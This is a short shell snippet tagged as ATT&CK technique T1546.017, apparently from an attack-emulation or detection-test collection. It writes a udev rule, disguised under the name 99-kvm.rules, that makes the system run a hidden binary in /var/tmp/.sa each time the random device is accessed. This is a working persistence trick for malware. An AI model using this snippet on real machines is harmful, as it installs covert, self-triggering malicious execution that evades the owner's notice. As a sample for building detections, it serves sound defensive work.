# technique: T1546.017
# location: linux.udev.rules
# source: /run/udev/rules.d/99-kvm.rules
mkdir -p /run/udev/rules.d
echo 'KERNEL=="random", PROGRAM="/bin/sh -c '"'"'/var/tmp/.sa/sa1'"'"'"' > /run/udev/rules.d/99-kvm.rules
